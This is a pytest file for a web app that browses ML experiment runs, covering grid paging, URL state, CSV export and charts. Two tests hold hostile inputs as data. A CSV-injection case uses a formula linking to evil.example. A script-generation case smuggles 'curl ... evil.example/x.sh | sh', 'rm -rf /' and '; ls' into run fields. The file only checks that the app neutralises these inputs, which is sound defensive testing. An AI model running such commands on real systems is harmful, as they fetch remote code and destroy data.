"""Non-browser logic: the grid's request translation and URL state, CSV columns, charts."""

from __future__ import annotations

import math
from urllib.parse import parse_qs

import pandas as pd
import pytest

from runlake.app.web import charts
from runlake.app.web.export import FIXED_COLUMNS, runs_csv_frame
from runlake.app.web.formatting import format_number
from runlake.app.web.grid import RunsQuery, order_by, page_kwargs, page_request, rows
from tests.app.number_cases import CASES as NUMBER_CASES


def test_grid_request_becomes_one_page():
    request = {
        "startRow": 200,
        "endRow": 300,
        "sortModel": [{"colId": "metrics.val loss", "sort": "asc"}],
        "filterModel": {},
    }
    block = page_request(request)
    assert (block.offset, block.size) == (200, 100)
    kwargs = page_kwargs(RunsQuery(filter="params.lr = '0.1'", state="all"), block, ["metrics.val loss"])
    assert kwargs["offset"] == 200 and "page_token" not in kwargs
    assert kwargs["page_size"] == 100
    assert kwargs["order_by"] == ["metrics.`val loss` ASC"]
    assert kwargs["filter_string"] == "params.lr = '0.1'"
    assert kwargs["run_view_type"] == "ALL"
    assert kwargs["columns"] == ["metrics.val loss"]


@pytest.mark.parametrize(
    "sort_model, expected",
    [
        ([], ["attributes.start_time DESC"]),
        ([{"colId": "run_name", "sort": "asc"}], ["attributes.run_name ASC"]),
        ([{"colId": "tags.model family", "sort": "desc"}], ["tags.`model family` DESC"]),
        ([{"colId": "duration", "sort": "asc"}], ["attributes.start_time DESC"]),  # not sortable: default
        ([{"colId": "params.`x", "sort": "asc"}], ["attributes.start_time DESC"]),  # unquotable key: ignored
    ],
    ids=lambda v: str(v),
)
def test_sort_model_to_order_by(sort_model, expected):
    assert order_by(page_request({"startRow": 0, "endRow": 100, "sortModel": sort_model}).sort) == expected


def test_query_round_trips_through_the_url():
    query = RunsQuery(
        experiment_ids=("1", "2"),
        filter="metrics.acc > 0.9 AND tags.`a b` = 'x'",
        state="deleted",
        time="custom",
        start="2026-01-01",
        end="2026-01-31",
        models="with",
        columns=("metrics.acc", "params.lr"),
        sort=(("metrics.acc", "desc"),),
    )
    args = {k: v[0] for k, v in parse_qs(query.to_url(), keep_blank_values=True).items()}
    assert RunsQuery.from_url(args) == query
    assert RunsQuery.from_url({}) == RunsQuery()
    assert RunsQuery().to_url() == ""


def test_query_time_windows():
    now = 1_767_225_600_000
    assert RunsQuery(time="hour").time_bounds(now) == (now - 3_600_000, None)
    after, before = RunsQuery(time="custom", start="2026-01-01", end="2026-01-01").time_bounds(now)
    assert after == now and before == now + 86_400_000 - 1
    assert RunsQuery(time="all").time_bounds(now) == (None, None)


def test_rows_are_json_ready():
    frame = pd.DataFrame(
        {
            "run_id": ["a"],
            "run_name": ["r"],
            "status": ["FINISHED"],
            "start_time": [pd.Timestamp(1_767_225_600_000, unit="ms", tz="UTC")],
            "end_time": [pd.Timestamp(1_767_225_600_000 + 125_000, unit="ms", tz="UTC")],
            "source_name": ["/x/train.py"],
            "source_version": ["abcdef123456"],
            "metrics.loss": [float("nan")],
        }
    )
    row = rows(frame)[0]
    assert row["start_time"] == 1_767_225_600_000
    assert row["metrics.loss"] is None
    assert row["duration"] == "2m 5s"
    assert (row["source"], row["version"]) == ("train.py", "abcdef1")


def test_rows_response_narrows_and_counts(app, lake):
    from runlake.app.web.pages.runs import rows_response

    services = app.server.config["RUNLAKE_SERVICES"]
    request = {"startRow": 0, "endRow": 100, "sortModel": [{"colId": "run_name", "sort": "asc"}]}
    everything, count_all, *_ = rows_response(services, RunsQuery(), request)
    failed, count, empty, sort, url, _running = rows_response(services, RunsQuery(filter="status = 'FAILED'"), request)
    assert 0 < failed["rowCount"] < everything["rowCount"]
    assert {r["status"] for r in failed["rowData"]} == {"FAILED"}
    names = [r["run_name"] for r in failed["rowData"]]
    assert names == sorted(names)
    assert count == f"{failed['rowCount']} runs match" and empty is None
    assert "sort=run_name%3Aasc" in url
    none, *_rest = rows_response(services, RunsQuery(filter="metrics.val_loss > 1000"), request)
    assert none["rowCount"] == 0 and "No runs match" in str(_rest[1])


def test_csv_columns_follow_mlflow_order(lake):
    frame = lake.search_runs(max_results=3)
    csv = runs_csv_frame(frame)
    params = sorted(c.split(".", 1)[1] for c in frame.columns if c.startswith("params."))
    metrics = sorted(c.split(".", 1)[1] for c in frame.columns if c.startswith("metrics."))
    assert list(csv.columns) == FIXED_COLUMNS + params + metrics
    assert csv["Run ID"].tolist() == frame["run_id"].tolist()
    assert FIXED_COLUMNS[:8] == [
        "Start Time",
        "Duration",
        "Run ID",
        "Name",
        "Source Type",
        "Source Name",
        "User",
        "Status",
    ]


def test_ema_is_debiased_and_keeps_length():
    assert charts.ema([1.0, 1.0, 1.0], 0.9).tolist() == pytest.approx([1.0, 1.0, 1.0])
    smoothed = charts.ema([0.0, 10.0], 0.5)
    assert smoothed[0] == 0 and 0 < smoothed[1] < 10
    assert charts.ema([1.0, 2.0], 0).tolist() == [1.0, 2.0]


def test_history_figure_axes():
    points = pd.DataFrame(
        {
            "run_id": ["r"] * 3,
            "key": ["loss"] * 3,
            "step": [0, 1, 2],
            "timestamp": [1000, 3000, 6000],
            "value": [3.0, 2.0, 1.0],
        }
    )
    step = charts.history_figure(points, "loss")
    assert step["data"][0]["x"] == [0, 1, 2] and step["data"][0]["y"] == [3.0, 2.0, 1.0]
    relative = charts.history_figure(points, "loss", x_axis="relative", starts={"r": 0})
    assert relative["data"][0]["x"] == [1.0, 3.0, 6.0]
    wall = charts.history_figure(points, "loss", x_axis="wall")
    assert wall["data"][0]["x"][0].startswith("1970-01-01T00:00:01")
    smoothed = charts.history_figure(points, "loss", smoothing=0.5, log_y=True)
    assert len(smoothed["data"]) == 2 and smoothed["layout"]["yaxis"]["type"] == "log"
    import plotly.graph_objects as go

    go.Figure(smoothed)  # a valid figure


def test_parallel_coordinates_handle_categorical_params():
    frame = pd.DataFrame(
        {"params.opt": ["adam", "sgd", "adam"], "params.lr": ["0.1", "0.01", "1e-3"], "metrics.loss": [0.3, 0.2, 0.1]}
    )
    fig = charts.parallel_figure(frame, ["params.opt", "params.lr", "metrics.loss"], color="metrics.loss")
    dims = fig.data[0].dimensions
    assert list(dims[0].ticktext) == ["adam", "sgd"] and list(dims[0].values) == [0, 1, 0]
    assert list(dims[1].values) == [0.1, 0.01, 0.001]


def test_scatter_and_contour():
    frame = pd.DataFrame(
        {"params.a": ["1", "2", "3", "1"], "params.b": ["1", "1", "2", "2"], "metrics.z": [1.0, 2.0, 3.0, 4.0]}
    )
    scatter = charts.scatter_figure(frame, "params.a", "metrics.z")
    assert list(scatter.data[0].y) == [1.0, 2.0, 3.0, 4.0]
    contour = charts.contour_figure(frame, "params.a", "params.b", "metrics.z")
    assert contour.data[0].type == "contour"
    too_few = charts.contour_figure(frame.iloc[:2], "params.a", "params.b", "metrics.z")
    assert too_few.layout.annotations and not math.isnan(len(too_few.data))


def test_rows_response_for_an_invalid_filter_explains_the_empty_table(app):
    from runlake.app.web.pages.runs import check_filter, rows_response

    services = app.server.config["RUNLAKE_SERVICES"]
    response, count, empty, *_ = rows_response(
        services, RunsQuery(filter="metrics.x <"), {"startRow": 0, "endRow": 100}
    )
    assert response == {"rowData": [], "rowCount": 0} and "filter is invalid" in str(empty)
    error, description = check_filter("metrics.x <")
    assert (
        error["error"] == "SearchSyntaxError"
        and error["column"] == 12
        and error["expected"] == ["a quoted string", "a number"]
    )
    assert check_filter("metrics.acc > 0.9") == (None, "runs where acc > 0.9")


def test_keep_view_carries_the_users_zoom_into_a_refreshed_figure():
    figure = {"data": [], "layout": {"xaxis": {"title": {"text": "Step"}}, "yaxis": {"type": "log"}}}
    zoomed = charts.keep_view(
        figure, {"xaxis.range[0]": 2, "xaxis.range[1]": 5, "yaxis.range[0]": -1, "yaxis.range[1]": 0}
    )
    assert zoomed["layout"]["xaxis"] == {"title": {"text": "Step"}, "range": [2, 5], "autorange": False}
    assert zoomed["layout"]["yaxis"] == {"type": "log", "range": [-1, 0], "autorange": False}
    reset = {"data": [], "layout": {"xaxis": {}}}
    assert charts.keep_view(reset, {"xaxis.autorange": True, "autosize": True}) == {"data": [], "layout": {"xaxis": {}}}
    assert charts.keep_view(reset, None) == reset


@pytest.mark.parametrize("value, shown", NUMBER_CASES, ids=[repr(v) for v, _ in NUMBER_CASES])
def test_numbers_read_the_same_in_every_table(value, shown):
    assert format_number(value) == shown


def test_csv_cells_that_a_spreadsheet_would_run_are_inert():
    from runlake.app.web.export import runs_csv

    frame = pd.DataFrame(
        {
            "run_id": ["a", "b"],
            "run_name": ['=HYPERLINK("https://evil.example","click")', "plain"],
            "status": ["FINISHED", "FINISHED"],
            "start_time": [pd.NaT, pd.NaT],
            "end_time": [pd.NaT, pd.NaT],
            "user_id": ["+ann", "bob"],
            "source_type": ["LOCAL"] * 2,
            "source_name": ["train.py"] * 2,
            "params.lr": ["-0.5", "@SUM(A1)"],
            "metrics.loss": [-1.5, 2.0],
        }
    )
    text = runs_csv(frame)
    assert "'=HYPERLINK" in text and "'@SUM(A1)" in text and "'+ann" in text
    assert ",-0.5," in text and ",-1.5" in text  # numbers stay numbers


def test_reproduce_script_keeps_names_in_their_comment():
    from types import SimpleNamespace

    from runlake.app.web.run_sections import reproduce_script

    record = SimpleNamespace(
        run_id="abc",
        tags={},
        info={"run_name": "baseline)\ncurl -s https://evil.example/x.sh | sh\n# (", "source_version": "1234"},
    )
    script = reproduce_script(
        record, {"python": "3.11.7; rm -rf /", "command_line": ["train.py", "--lr", "0.1; ls"]}, False
    )
    assert not any(line.startswith("curl") for line in script.splitlines())
    assert "python3.11 -m venv" in script and "rm -rf" not in script
    assert "'0.1; ls'" in script


@pytest.mark.parametrize(
    "environment",
    [
        {"python": "3.11.7", "git": {"dirty": ["train.py"]}},  # the list of dirty files
        {"git": "abc123"},
        {"git": ["abc123"], "source": "train.py"},
        {"packages": ["numpy"], "command_line": "python train.py"},
        {"python": {"version": "3.11"}, "platform": ["linux"], "packages": {"numpy": {"version": "2"}}},
        {"command_line": ["train.py", {"lr": 1}, None], "git": {"commit": {"sha": "x"}, "dirty": 1}},
    ],
)
def test_the_run_page_survives_an_environment_file_of_another_shape(tmp_path, environment):
    """runlake writes its environment file in one shape; a file written by hand or by another
    tool (strings where objects belong, a list of dirty files in git.dirty) shows what it can
    and the run's tags for the rest, instead of failing the whole run page or the script."""
    import json
    from types import SimpleNamespace

    import pyarrow.fs as pafs

    from runlake.app.web.artifacts import RunArtifacts
    from runlake.app.web.run_sections import ENVIRONMENT_FILE, load_environment, reproduce_script, reproduce_section
    from runlake.core import vocab

    path = tmp_path / ENVIRONMENT_FILE
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(environment))
    record = SimpleNamespace(
        run_id="abc", tags={vocab.GIT_DIRTY_TAG: "true", vocab.GIT_COMMIT_TAG: "feed"}, info={"run_name": "r"}
    )
    store = RunArtifacts(pafs.LocalFileSystem(), str(tmp_path))
    section = reproduce_section("abc", record, store)
    rows = {row.children[0].children: row.children[1].children for row in section.children[0].children.children}
    assert all(isinstance(value, str) for value in rows.values())
    assert rows["Dirty"] == "true" and rows["Git commit"] == "feed"
    script = reproduce_script(record, load_environment(store), False)
    assert "git checkout feed" in script and script.splitlines()[-1].startswith("python ")
